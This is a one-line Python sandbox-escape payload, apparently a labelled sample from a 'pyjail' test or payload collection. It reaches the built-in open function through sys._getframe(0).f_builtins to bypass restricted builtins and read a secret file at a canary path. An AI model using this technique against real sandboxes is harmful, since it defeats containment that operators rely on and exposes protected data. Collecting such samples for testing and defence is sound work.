# source: pyjail lore
# effect: secret

import sys

print(sys._getframe(0).f_builtins["open"]("/tmp/canary/secret").read())
